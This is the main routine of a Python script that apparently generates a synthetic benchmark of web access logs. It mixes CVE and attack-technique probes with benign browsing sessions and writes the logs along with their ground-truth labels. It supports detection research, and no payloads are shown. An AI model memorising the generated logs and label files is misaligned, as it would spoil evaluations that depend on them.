PAGE_REFS = ['https://www.example.com/', 'https://www.example.com/index.php', 'https://portal.example/login',
             'https://shop.example/', 'https://app.example/dashboard']

def main():
    assert all(len(v) <= 2 for v in PRODUCTS.values()), [k for k, v in PRODUCTS.items() if len(v) > 2]
    cves = [e['tech'] for e in E if e['cat'] == 'cve']
    assert len(cves) == len(set(cves)), 'a CVE appears twice'
    assert len(set((e['cat'], e['tech']) for e in E)) == len(E), 'technique labels must be unique per category'
    r = random.Random(SEED)
    order = list(range(len(E)))
    r.shuffle(order)
    lines, labels, reqrows = [], [], []
    used = set()
    t = DAY + datetime.timedelta(minutes=3)
    for idx in order:
        e = E[idx]
        while True:
            ip = '100.79.%d.%d' % (r.randint(128, 143), r.randint(1, 254))
            if ip not in used:
                used.add(ip)
                break
        ua = e['ua'] if e['place'] == 'ua' else UA[r.choice(BROWSERS)]
        st = e['status']
        path = e['target'].split('?')[0]
        if e['place'] in ('query', 'path') and path not in ('/', '/index.php'):
            # most probes reach servers without the product, or a WAF/nginx rule refuses them
            x = r.random()
            if e['cat'] == 'cve':
                st = 404 if x < 0.34 else 403 if x < 0.42 else 400 if x < 0.46 else st
            elif st == 200:
                st = 404 if x < 0.18 else 403 if x < 0.24 else 400 if x < 0.27 else st
        if e['place'] == 'referer':
            ref = e['ref']
        elif e['ref'] is not None:
            ref = e['ref']
        else:
            ref = r.choice(PAGE_REFS) if r.random() < 0.08 else '-'
        t += datetime.timedelta(seconds=r.randint(40, 300))
        request = '%s %s HTTP/1.1' % (e['method'], e['target'])
        lines.append((t, line(ip, t, esc(request), st, size(r, st), ref, ua)))
        reqrows.append('\t'.join([ip, e['cat'], e['tech'], e['cls'], esc(request), e['product'], e['source']]))
        labels.append('%s\tattack\t%s\t%s' % (ip, e['cat'], e['tech']))
    lines.sort(key=lambda x: x[0])
    # benign
    blines, blabels = [], []
    bused = set()
    for kind, fn, count in BENIGN_KINDS:
        for i in range(count):
            while True:
                ip = '100.79.%d.%d' % (r.randint(192, 207), r.randint(1, 254))
                if ip not in bused:
                    bused.add(ip)
                    break
            ua = UA[r.choice(BROWSERS)]
            tt = DAY + datetime.timedelta(seconds=r.randint(600, 22 * 3600))
            n = 0
            for (target, method, st, ref) in fn(r, i, count):
                asset = any(target.split('?')[0].endswith(x) for x in ('.css', '.js', '.svg', '.png', '.jpg', '.webp'))
                tt += datetime.timedelta(seconds=r.randint(0, 2) if asset else r.randint(3, 70))
                if asset and st == 200 and r.random() < 0.12:
                    st = 304     # cached asset revalidated
                blines.append((tt, line(ip, tt, esc('%s %s HTTP/1.1' % (method, target)), st, size(r, st, target), ref, ua)))
                n += 1
            assert 5 <= n <= 8, (kind, n)
            blabels.append('%s\tbenign\t%s' % (ip, kind))
    blines.sort(key=lambda x: x[0])
    assert not (used & bused)
    key = lambda s: tuple(int(x) for x in s.split('\t')[0].split('.'))
    with open(os.path.join(OUT, 'attacks.log'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for _, l in lines))
    with open(os.path.join(OUT, 'attacks.labels'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for l in sorted(labels, key=key)))
    with open(os.path.join(OUT, 'requests.tsv'), 'w', newline='\n') as f:
        f.write('ADDRESS\tCATEGORY\tCVE_OR_TECHNIQUE\tCLASS\tREQUEST_LINE\tPRODUCT\tPUBLIC_SOURCE\n')
        f.write(''.join(l + '\n' for l in sorted(reqrows, key=key)))
    with open(os.path.join(OUT, 'benign.log'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for _, l in blines))
    with open(os.path.join(OUT, 'benign.labels'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for l in sorted(blabels, key=key)))

if __name__ == '__main__':
    main()
